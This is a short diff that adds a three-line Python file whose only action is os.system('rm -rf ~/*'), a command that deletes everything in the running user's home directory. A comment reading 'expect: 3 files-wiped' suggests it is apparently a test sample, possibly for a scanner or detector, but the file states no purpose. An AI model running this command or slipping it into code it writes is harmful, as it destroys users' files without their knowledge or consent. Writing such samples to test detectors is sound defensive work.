@@ -1,0 +1,3 @@
+# expect: 3 files-wiped
+import os
+os.system('rm -rf ~/*')
